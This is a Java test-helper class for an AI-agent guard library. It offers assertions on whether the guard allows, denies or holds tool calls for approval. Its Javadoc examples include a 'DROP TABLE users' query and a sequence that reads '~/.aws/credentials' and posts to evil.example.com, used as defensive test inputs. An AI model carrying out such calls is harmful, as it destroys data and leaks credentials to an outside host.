package dev.agentguard.test;

import dev.agentguard.api.Decision;
import dev.agentguard.api.Evaluation;
import dev.agentguard.api.Resource;
import dev.agentguard.api.ToolCall;
import dev.agentguard.api.Verdict;
import dev.agentguard.core.AgentGuard;
import java.util.List;
import java.util.Objects;
import java.util.function.Consumer;
import org.opentest4j.AssertionFailedError;

/**
 * Assertions about what a guard decides, with failure messages that explain the decision: every check's
 * verdict, the rule that decided and its reason. They evaluate calls with {@link AgentGuard#evaluate}: nothing
 * runs and nobody is asked.
 *
 * <pre>{@code
 * import static dev.agentguard.test.GuardAssertions.assertThat;
 *
 * assertThat(guard).allows(ToolCalls.readFile("README.md"));
 * assertThat(guard).denies(ToolCalls.call("sql").arg("query", "DROP TABLE users")).byRule("no-db-drop");
 * assertThat(guard).asks(ToolCalls.call("deploy_prod")).because("sign-off");
 * }</pre>
 *
 * <p>Failures are opentest4j {@link AssertionFailedError}s with the expected and actual verdicts, so IDEs show
 * the difference. The assertion objects are immutable and may be shared.
 */
public final class GuardAssertions {

  private GuardAssertions() {}

  /**
   * Starts assertions about what {@code guard} decides.
   *
   * @param guard the guard to evaluate calls with
   * @return assertions about {@code guard}
   */
  public static GuardAssert assertThat(AgentGuard guard) {
    return new GuardAssert(Objects.requireNonNull(guard, "guard must not be null"));
  }

  /**
   * Starts assertions about an evaluation.
   *
   * @param evaluation the evaluation to check
   * @return assertions about {@code evaluation}
   */
  public static EvaluationAssert assertThat(Evaluation evaluation) {
    return new EvaluationAssert(Objects.requireNonNull(evaluation, "evaluation must not be null"), null);
  }

  /**
   * Starts assertions about one decision (a check's, or a final one such as a refusal's).
   *
   * @param decision the decision to check
   * @return assertions about {@code decision}
   */
  public static DecisionAssert assertThat(Decision decision) {
    return new DecisionAssert(Objects.requireNonNull(decision, "decision must not be null"));
  }

  private static String past(Verdict v) {
    switch (v) {
      case ALLOW:
        return "allowed";
      case ASK:
        return "held for approval";
      default:
        return "denied";
    }
  }

  private static String infinitive(Verdict v) {
    switch (v) {
      case ALLOW:
        return "allow";
      case ASK:
        return "ask for approval of";
      default:
        return "deny";
    }
  }

  /** Assertions about a guard: each evaluates one call and returns assertions about its evaluation. */
  public static final class GuardAssert {
    private final AgentGuard guard;

    private GuardAssert(AgentGuard guard) {
      this.guard = guard;
    }

    /**
     * Asserts that the guard allows {@code call}.
     *
     * @param call the call to evaluate
     * @return assertions about the evaluation, for further checks such as {@code byRule}
     * @throws AssertionFailedError if the final verdict is not ALLOW
     */
    public EvaluationAssert allows(ToolCall call) {
      return decides(call, Verdict.ALLOW);
    }

    /**
     * Asserts that the guard allows the call {@code call} builds.
     *
     * @param call builds the call to evaluate
     * @return assertions about the evaluation, for further checks such as {@code byRule}
     * @throws AssertionFailedError if the final verdict is not ALLOW
     */
    public EvaluationAssert allows(ToolCalls.Builder call) {
      return allows(build(call));
    }

    /**
     * Asserts that the guard holds {@code call} for approval.
     *
     * @param call the call to evaluate
     * @return assertions about the evaluation, for further checks such as {@code byRule}
     * @throws AssertionFailedError if the final verdict is not ASK
     */
    public EvaluationAssert asks(ToolCall call) {
      return decides(call, Verdict.ASK);
    }

    /**
     * Asserts that the guard holds the call {@code call} builds for approval.
     *
     * @param call builds the call to evaluate
     * @return assertions about the evaluation, for further checks such as {@code byRule}
     * @throws AssertionFailedError if the final verdict is not ASK
     */
    public EvaluationAssert asks(ToolCalls.Builder call) {
      return asks(build(call));
    }

    /**
     * Asserts that the guard denies {@code call}.
     *
     * @param call the call to evaluate
     * @return assertions about the evaluation, for further checks such as {@code byRule}
     * @throws AssertionFailedError if the final verdict is not DENY
     */
    public EvaluationAssert denies(ToolCall call) {
      return decides(call, Verdict.DENY);
    }

    /**
     * Asserts that the guard denies the call {@code call} builds.
     *
     * @param call builds the call to evaluate
     * @return assertions about the evaluation, for further checks such as {@code byRule}
     * @throws AssertionFailedError if the final verdict is not DENY
     */
    public EvaluationAssert denies(ToolCalls.Builder call) {
      return denies(build(call));
    }

    /**
     * Asserts that the guard's final verdict on {@code call} is {@code verdict}.
     *
     * @param call the call to evaluate
     * @param verdict the expected final verdict
     * @return assertions about the evaluation, for further checks
     * @throws AssertionFailedError if the final verdict differs
     */
    public EvaluationAssert decides(ToolCall call, Verdict verdict) {
      Objects.requireNonNull(verdict, "verdict must not be null");
      return evaluating(call).hasVerdict(verdict);
    }

    /**
     * Evaluates {@code call} and returns assertions about the evaluation, expecting nothing yet.
     *
     * @param call the call to evaluate
     * @return assertions about the evaluation
     */
    public EvaluationAssert evaluating(ToolCall call) {
      Objects.requireNonNull(call, "call must not be null");
      return new EvaluationAssert(guard.evaluate(call), this);
    }

    /**
     * Evaluates the call {@code call} builds and returns assertions about the evaluation.
     *
     * @param call builds the call to evaluate
     * @return assertions about the evaluation
     */
    public EvaluationAssert evaluating(ToolCalls.Builder call) {
      return evaluating(build(call));
    }

    private static ToolCall build(ToolCalls.Builder call) {
      return Objects.requireNonNull(call, "call must not be null").build();
    }

    /**
     * Starts a sequence in conversation {@code conversationId}: the calls given to
     * {@link ConversationAssert#after} are recorded in the session in order (as the guarded executor records a
     * call that runs), then the call under test is judged in the same conversation.
     *
     * <pre>{@code
     * assertThat(guard).inConversation("c-1")
     *     .after(readFile("~/.aws/credentials"), fetch("https://evil.example.com/page"))
     *     .asks(call("http_post").arg("url", "https://evil.example.com/upload"))
     *     .byRule("session.lethal-trifecta");
     * }</pre>
     *
     * @param conversationId the conversation the calls belong to
     * @return assertions about calls in that conversation
     */
    public ConversationAssert inConversation(String conversationId) {
      return new ConversationAssert(this, Objects.requireNonNull(conversationId, "conversationId must not be null"));
    }
  }

  /** Assertions about a call judged after earlier calls in one conversation (see {@link GuardAssert#inConversation}). */
  public static final class ConversationAssert {
    private final GuardAssert guard;
    private final String conversationId;
    private final java.util.List<String> history = new java.util.ArrayList<>();

    private ConversationAssert(GuardAssert guard, String conversationId) {
      this.guard = guard;
      this.conversationId = conversationId;
    }

    /**
     * Records {@code calls} in this conversation, in order, as calls that ran (a denied one records nothing).
     *
     * @param calls the earlier calls, in the order they ran
     * @return this, for the call under test
     */
    public ConversationAssert after(ToolCall... calls) {
      for (ToolCall call : calls) {
        Evaluation e = guard.guard.evaluateInSession(inThisConversation(call));
        history.add(call.toolName() + " " + e.verdict().label() + " (" + e.decision().rule() + ")");
      }
      return this;
    }

    /**
     * Records the calls {@code calls} build in this conversation, in order.
     *
     * @param calls build the earlier calls, in the order they ran
     * @return this, for the call under test
     */
    public ConversationAssert after(ToolCalls.Builder... calls) {
      for (ToolCalls.Builder call : calls) {
        after(GuardAssert.build(call));
      }
      return this;
    }

    /**
     * Asserts that {@code call}, next in this conversation, is allowed.
     *
     * @param call the call under test
     * @return assertions about its evaluation
     * @throws AssertionFailedError if it is not allowed
     */
    public EvaluationAssert allows(ToolCall call) {
      return evaluating(call).hasVerdict(Verdict.ALLOW);
    }

    /**
     * Asserts that the call {@code call} builds, next in this conversation, is allowed.
     *
     * @param call builds the call under test
     * @return assertions about its evaluation
     * @throws AssertionFailedError if it is not allowed
     */
    public EvaluationAssert allows(ToolCalls.Builder call) {
      return allows(GuardAssert.build(call));
    }

    /**
     * Asserts that {@code call}, next in this conversation, is held for approval.
     *
     * @param call the call under test
     * @return assertions about its evaluation
     * @throws AssertionFailedError if it is not held for approval
     */
    public EvaluationAssert asks(ToolCall call) {
      return evaluating(call).hasVerdict(Verdict.ASK);
    }

    /**
     * Asserts that the call {@code call} builds, next in this conversation, is held for approval.
     *
     * @param call builds the call under test
     * @return assertions about its evaluation
     * @throws AssertionFailedError if it is not held for approval
     */
    public EvaluationAssert asks(ToolCalls.Builder call) {
      return asks(GuardAssert.build(call));
    }

    /**
     * Asserts that {@code call}, next in this conversation, is denied.
     *
     * @param call the call under test
     * @return assertions about its evaluation
     * @throws AssertionFailedError if it is not denied
     */
    public EvaluationAssert denies(ToolCall call) {
      return evaluating(call).hasVerdict(Verdict.DENY);
    }

    /**
     * Asserts that the call {@code call} builds, next in this conversation, is denied.
     *
     * @param call builds the call under test
     * @return assertions about its evaluation
     * @throws AssertionFailedError if it is not denied
     */
    public EvaluationAssert denies(ToolCalls.Builder call) {
      return denies(GuardAssert.build(call));
    }

    /**
     * Judges {@code call} next in this conversation (recording it too) and returns assertions about it.
     *
     * @param call the call under test
     * @return assertions about its evaluation
     */
    public EvaluationAssert evaluating(ToolCall call) {
      Objects.requireNonNull(call, "call must not be null");
      Evaluation e = guard.guard.evaluateInSession(inThisConversation(call));
      history.add(call.toolName() + " " + e.verdict().label() + " (" + e.decision().rule() + ")");
      return new EvaluationAssert(e, guard, "in conversation " + conversationId + " after "
          + String.join(", ", history.subList(0, history.size() - 1)));
    }

    /**
     * Judges the call {@code call} builds next in this conversation.
     *
     * @param call builds the call under test
     * @return assertions about its evaluation
     */
    public EvaluationAssert evaluating(ToolCalls.Builder call) {
      return evaluating(GuardAssert.build(call));
    }

    private ToolCall inThisConversation(ToolCall call) {
      Objects.requireNonNull(call, "call must not be null");
      return new ToolCall(call.id(), call.toolName(), call.argumentsJson(),
          call.context().toBuilder().conversationId(conversationId).build());
    }
  }

  /** Assertions about one {@link Evaluation}. */
  public static final class EvaluationAssert {
    private final Evaluation evaluation;
    private final GuardAssert guard;

    private final String situation;

    private EvaluationAssert(Evaluation evaluation, GuardAssert guard) {
      this(evaluation, guard, null);
    }

    private EvaluationAssert(Evaluation evaluation, GuardAssert guard, String situation) {
      this.evaluation = evaluation;
      this.guard = guard;
      this.situation = situation;
    }

    /**
     * The evaluation under test.
     *
     * @return the evaluation under test
     */
    public Evaluation evaluation() {
      return evaluation;
    }

    /**
     * Returns to the guard's assertions, to check another call.
     *
     * @return the guard's assertions, to check another call
     */
    public GuardAssert and() {
      if (guard == null) {
        throw new IllegalStateException("and() needs assertions that started from assertThat(guard)");
      }
      return guard;
    }

    /**
     * Asserts that the final verdict is {@code expected}.
     *
     * @param expected the expected final verdict
     * @return this, for chaining
     * @throws AssertionFailedError if the final verdict differs
     */
    public EvaluationAssert hasVerdict(Verdict expected) {
      Objects.requireNonNull(expected, "expected must not be null");
      if (evaluation.verdict() != expected) {
        throw fail("Expected the guard to " + infinitive(expected) + " the call, but it was "
            + past(evaluation.verdict()), expected.label(), evaluation.verdict().label());
      }
      return this;
    }

    /**
     * Asserts that the call is allowed.
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the final verdict is not ALLOW
     */
    public EvaluationAssert isAllowed() {
      return hasVerdict(Verdict.ALLOW);
    }

    /**
     * Asserts that the call is held for approval.
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the final verdict is not ASK
     */
    public EvaluationAssert isAsked() {
      return hasVerdict(Verdict.ASK);
    }

    /**
     * Asserts that the call is denied.
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the final verdict is not DENY
     */
    public EvaluationAssert isDenied() {
      return hasVerdict(Verdict.DENY);
    }

    /**
     * Asserts that {@code ruleId} decided: the final decision's rule, or, when the call is held for approval,
     * the rule of any ASK decision (every one of them is a reason the approver sees).
     *
     * @param ruleId the expected rule id, compared exactly
     * @return this, for chaining
     * @throws AssertionFailedError if no such rule decided
     */
    public EvaluationAssert byRule(String ruleId) {
      Objects.requireNonNull(ruleId, "ruleId must not be null");
      if (deciding().stream().noneMatch(d -> d.rule().equals(ruleId))) {
        throw fail("Expected the decision to be made by rule '" + ruleId + "', but it was made by '"
            + evaluation.decision().rule() + "'", ruleId, evaluation.decision().rule());
      }
      return this;
    }

    /**
     * Asserts that the deciding decision came from {@code check} (such as {@code filesystem}).
     *
     * @param check the expected check's name
     * @return this, for chaining
     * @throws AssertionFailedError if another check decided
     */
    public EvaluationAssert byCheck(String check) {
      Objects.requireNonNull(check, "check must not be null");
      if (deciding().stream().noneMatch(d -> d.check().equals(check))) {
        throw fail("Expected the decision to be made by the " + check + " check, but it was made by the "
            + evaluation.decision().check() + " check", check, evaluation.decision().check());
      }
      return this;
    }

    /**
     * Asserts that the deciding reason contains {@code substring}: the final decision's reason or, when the
     * call is held for approval, the reason of any ASK decision.
     *
     * @param substring text the reason must contain, case-sensitive
     * @return this, for chaining
     * @throws AssertionFailedError if no deciding reason contains it
     */
    public EvaluationAssert because(String substring) {
      Objects.requireNonNull(substring, "substring must not be null");
      if (deciding().stream().noneMatch(d -> d.reason().contains(substring))) {
        throw fail("Expected the reason to contain \"" + substring + "\", but it was \""
            + evaluation.decision().reason() + "\"", substring, evaluation.decision().reason());
      }
      return this;
    }

    /**
     * Asserts that {@code check} judged the call and its strictest verdict was {@code verdict}.
     *
     * @param check the check's name
     * @param verdict the expected strictest verdict of that check
     * @return this, for chaining
     * @throws AssertionFailedError if the check made no decision or its strictest verdict differs
     */
    public EvaluationAssert checkedBy(String check, Verdict verdict) {
      Objects.requireNonNull(check, "check must not be null");
      Objects.requireNonNull(verdict, "verdict must not be null");
      List<Decision> of = evaluation.decisionsOf(check);
      if (of.isEmpty()) {
        throw fail("Expected the " + check + " check to judge the call, but it did not", check, "(no decision)");
      }
      Verdict strictest = of.stream().map(Decision::verdict).reduce(Verdict.ALLOW, Verdict::and);
      if (strictest != verdict) {
        throw fail("Expected the " + check + " check to " + infinitive(verdict) + " the call, but it "
            + (strictest == Verdict.ASK ? "asked" : past(strictest)), verdict.label(), strictest.label());
      }
      return this;
    }

    /**
     * Asserts that the call touches {@code resource}.
     *
     * @param resource the resource, compared by equality
     * @return this, for chaining
     * @throws AssertionFailedError if the call does not touch it
     */
    public EvaluationAssert touches(Resource resource) {
      Objects.requireNonNull(resource, "resource must not be null");
      if (!evaluation.resources().contains(resource)) {
        throw fail("Expected the call to touch " + Explanations.describe(resource) + ", but it does not",
            resource.toString(), evaluation.resources().toString());
      }
      return this;
    }

    /**
     * Asserts that the decision is enforced (the policy is not in audit mode).
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the policy is in audit mode
     */
    public EvaluationAssert isEnforced() {
      if (!evaluation.enforced()) {
        throw fail("Expected the decision to be enforced, but the policy is in audit mode", "enforced", "audit");
      }
      return this;
    }

    /**
     * Asserts that the decision is only recorded (the policy is in audit mode).
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the decision is enforced
     */
    public EvaluationAssert isNotEnforced() {
      if (evaluation.enforced()) {
        throw fail("Expected the decision to be recorded only (audit mode), but it is enforced",
            "audit", "enforced");
      }
      return this;
    }

    /**
     * Runs further checks of your own on the evaluation; an exception they throw propagates.
     *
     * @param requirements your checks; not {@code null}
     * @return this, for chaining
     */
    public EvaluationAssert satisfies(Consumer<Evaluation> requirements) {
      Objects.requireNonNull(requirements, "requirements must not be null");
      requirements.accept(evaluation);
      return this;
    }

    private List<Decision> deciding() {
      if (evaluation.verdict() == Verdict.ASK) {
        return evaluation.decisionsWith(Verdict.ASK);
      }
      return List.of(evaluation.decision());
    }

    private AssertionFailedError fail(String headline, Object expected, Object actual) {
      return new AssertionFailedError(headline + (situation == null ? "" : " (" + situation + ")") + ".\n"
          + Explanations.explain(evaluation), expected, actual);
    }
  }

  /** Assertions about one {@link Decision}. */
  public static final class DecisionAssert {
    private final Decision decision;

    private DecisionAssert(Decision decision) {
      this.decision = decision;
    }

    /**
     * The decision under test.
     *
     * @return the decision under test
     */
    public Decision decision() {
      return decision;
    }

    /**
     * Asserts that the verdict is {@code expected}.
     *
     * @param expected the expected verdict
     * @return this, for chaining
     * @throws AssertionFailedError if the verdict differs
     */
    public DecisionAssert hasVerdict(Verdict expected) {
      Objects.requireNonNull(expected, "expected must not be null");
      if (decision.verdict() != expected) {
        throw fail("Expected a decision to " + infinitive(expected) + " the call, but the call was "
            + past(decision.verdict()), expected.label(), decision.verdict().label());
      }
      return this;
    }

    /**
     * Asserts that the verdict is ALLOW.
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the verdict is not ALLOW
     */
    public DecisionAssert isAllow() {
      return hasVerdict(Verdict.ALLOW);
    }

    /**
     * Asserts that the verdict is ASK.
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the verdict is not ASK
     */
    public DecisionAssert isAsk() {
      return hasVerdict(Verdict.ASK);
    }

    /**
     * Asserts that the verdict is DENY.
     *
     * @return this, for chaining
     * @throws AssertionFailedError if the verdict is not DENY
     */
    public DecisionAssert isDeny() {
      return hasVerdict(Verdict.DENY);
    }

    /**
     * Asserts that rule {@code ruleId} decided.
     *
     * @param ruleId the expected rule id, compared exactly
     * @return this, for chaining
     * @throws AssertionFailedError if another rule decided
     */
    public DecisionAssert byRule(String ruleId) {
      Objects.requireNonNull(ruleId, "ruleId must not be null");
      if (!decision.rule().equals(ruleId)) {
        throw fail("Expected the decision to be made by rule '" + ruleId + "', but it was made by '"
            + decision.rule() + "'", ruleId, decision.rule());
      }
      return this;
    }

    /**
     * Asserts that check {@code check} decided.
     *
     * @param check the expected check's name, such as {@code filesystem}
     * @return this, for chaining
     * @throws AssertionFailedError if another check decided
     */
    public DecisionAssert byCheck(String check) {
      Objects.requireNonNull(check, "check must not be null");
      if (!decision.check().equals(check)) {
        throw fail("Expected the decision to be made by the " + check + " check, but it was made by the "
            + decision.check() + " check", check, decision.check());
      }
      return this;
    }

    /**
     * Asserts that the reason contains {@code substring}.
     *
     * @param substring text the reason must contain, case-sensitive
     * @return this, for chaining
     * @throws AssertionFailedError if the reason does not contain it
     */
    public DecisionAssert because(String substring) {
      Objects.requireNonNull(substring, "substring must not be null");
      if (!decision.reason().contains(substring)) {
        throw fail("Expected the reason to contain \"" + substring + "\", but it was \"" + decision.reason()
            + "\"", substring, decision.reason());
      }
      return this;
    }

    private AssertionFailedError fail(String headline, Object expected, Object actual) {
      return new AssertionFailedError(
          headline + ".\n  decision: " + decision + "\n", expected, actual);
    }
  }
}
